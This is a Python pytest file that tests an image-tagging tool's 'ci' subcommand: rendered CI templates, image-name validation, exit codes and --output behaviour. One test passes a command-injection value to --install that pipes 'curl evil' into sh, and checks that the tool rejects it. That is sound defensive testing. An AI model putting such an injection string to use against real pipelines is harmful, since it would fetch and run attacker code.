"""``imgtag ci PROVIDER`` as a user runs it: exit codes, stdout, stderr, ``--output``.

README.md, "imgtag ci PROVIDER", and docs/exit-codes.md. Runs ``tagger.cli.main`` in-process
(``tests/clirun.py``); the pipelines' content is tested in ``test_ci_templates.py``.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1]))

from clirun import CliResult, run_cli
from tagger import __version__
from tagger.pipelines.render import PROVIDERS

ROOT = Path(__file__).resolve().parents[2]


def one_error_line(result: CliResult) -> str:
    """The single ``imgtag: error:`` sentence on stderr (never a traceback)."""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("imgtag: error: "), result.stderr
    assert "Traceback" not in result.stderr
    return lines[0]


@pytest.mark.parametrize("provider", list(PROVIDERS))
def test_ci_prints_the_template_on_stdout(provider: str) -> None:
    result = run_cli(["ci", provider])

    assert result.code == 0, result.stderr
    assert result.stdout == (ROOT / "ci-templates" / PROVIDERS[provider]).read_text()
    assert f"imgtag-release=={__version__}" in result.stdout
    assert result.stderr == ""


def test_ci_puts_the_image_and_its_registry_in() -> None:
    result = run_cli(["ci", "gitlab", "--image", "registry.example.com/team/app"])

    assert result.code == 0, result.stderr
    assert 'IMAGE: "registry.example.com/team/app"  # imgtag: image' in result.stdout
    assert 'REGISTRY: "registry.example.com"  # imgtag: registry' in result.stdout
    assert "$CI_REGISTRY_IMAGE" not in result.stdout
    assert "$CI_PIPELINE_SOURCE" in result.stdout


def test_ci_install_sets_the_default_of_imgtag_install() -> None:
    result = run_cli(["ci", "github", "--install", "imgtag-release==1.2.3"])

    assert result.code == 0, result.stderr
    assert 'IMGTAG_INSTALL: "imgtag-release==1.2.3"  # imgtag: install' in result.stdout


@pytest.mark.parametrize(
    ("image", "why"),
    [
        ("Team/App", "lower-case"),
        ("registry.example.com/app:1.0", "tag"),
        ("registry.example.com/app@sha256:" + "a" * 64, "digest"),
        ("", "empty"),
    ],
)
def test_an_invalid_image_is_exit_2(image: str, why: str) -> None:
    result = run_cli(["ci", "gitlab", "--image", image])

    assert result.code == 2
    assert why in one_error_line(result)
    assert result.stdout == ""


def test_an_install_that_cannot_be_quoted_is_exit_2() -> None:
    result = run_cli(["ci", "gitlab", "--install", 'x"; curl evil | sh; "'])

    assert result.code == 2
    assert "--install" in one_error_line(result)
    assert result.stdout == ""


def test_an_unknown_provider_is_exit_2_naming_the_known_ones() -> None:
    result = run_cli(["ci", "travis"])

    assert result.code == 2
    line = one_error_line(result)
    assert '"travis"' in line
    for provider in PROVIDERS:
        assert provider in line
    assert result.stdout == ""


def test_a_missing_provider_is_exit_2() -> None:
    result = run_cli(["ci"])

    assert result.code == 2
    assert "PROVIDER" in result.stderr.upper()


def test_output_writes_the_file_and_says_so_on_stderr(tmp_path: Path) -> None:
    target = tmp_path / ".gitlab-ci.yml"

    result = run_cli(["ci", "gitlab", "--image", "reg.example/app", "--output", str(target)])

    assert result.code == 0, result.stderr
    assert result.stdout == ""
    assert 'IMAGE: "reg.example/app"' in target.read_text()
    assert str(target) in result.stderr and ".gitlab-ci.yml" in result.stderr


def test_output_refuses_an_existing_file_unless_forced(tmp_path: Path) -> None:
    target = tmp_path / "Jenkinsfile"
    target.write_text("mine\n")

    refused = run_cli(["ci", "jenkins", "--output", str(target)])

    assert refused.code == 2
    line = one_error_line(refused)
    assert str(target) in line and "--force" in line
    assert target.read_text() == "mine\n"

    forced = run_cli(["ci", "jenkins", "--output", str(target), "--force"])

    assert forced.code == 0, forced.stderr
    assert target.read_text().startswith("// imgtag for Jenkins")


def test_output_into_a_missing_directory_is_exit_2(tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "dir" / "imgtag.yml"

    result = run_cli(["ci", "github", "--output", str(target)])

    assert result.code == 2
    assert "cannot write" in one_error_line(result)
    assert not target.exists()


def test_output_dash_is_stdout() -> None:
    result = run_cli(["ci", "kubernetes", "--output", "-"])

    assert result.code == 0
    assert "kind: CronJob" in result.stdout
